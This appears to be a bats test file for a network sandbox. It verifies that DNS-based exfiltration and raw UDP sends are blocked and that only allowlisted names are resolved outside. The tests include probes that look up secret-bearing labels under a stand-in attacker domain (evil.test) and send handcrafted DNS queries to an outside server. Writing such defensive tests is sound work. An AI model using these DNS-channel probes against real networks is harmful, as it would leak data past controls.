#!/usr/bin/env bats
# C-09 no DNS channel: no label chosen inside reaches a DNS server before a rule allowed it.
load helpers

@test "C-09 refused names and odd types are answered inside; only allowed names, when connected to, are asked outside" {
	for k in $(kinds); do
		run direct "$k" "-a allowed.test" 'getent hosts s3cret.evil.test; getent hosts allowed.test; getent hosts x.allowed.test
			python3 - <<"P"
import socket, struct
def ask(name, kind, server="127.0.0.1"):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (server, 53))
    r = s.recv(4096); return r[3] & 15, struct.unpack("!H", r[6:8])[0]
print("TXT", ask("leak.evil.test", 16))
print("HTTPS", ask("allowed.test", 65))
print("any server", ask("leak2.evil.test", 1, "93.184.216.66"))
print("A", ask("allowed.test", 1, "93.184.216.66"))
P
			curl -sS https://allowed.test/'
		[[ $output == *"198.18."*"allowed.test"* || $output == *"allowed.test"* ]]
		[[ $output == *"TXT (3, 0)"* ]]
		[[ $output == *"HTTPS (0, 0)"* ]]
		[[ $output == *"any server (3, 0)"* ]]
		[[ $output == *"A (0, 1)"* ]]
		[[ $output == *"hello from allowed"* ]]
		if grep -vE ' allowed.test$' "$LAB/dns.log"; then return 1; fi
		no_escape
	done
}

@test "C-10 UDP to anywhere fails at send(); DNS is answered" {
	for k in $(kinds); do
		run direct "$k" "-a allowed.test" 'python3 - <<"P"
import socket
for port in (443, 9999):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"x", ("93.184.216.66", port)); print("SENT")
    except OSError as e:
        print("refused", e.errno)
P
getent hosts allowed.test'
		[[ $output != *SENT* ]]
		[[ $output == *refused* ]]
		[[ $output == *"allowed.test"* ]]
		no_escape
	done
}
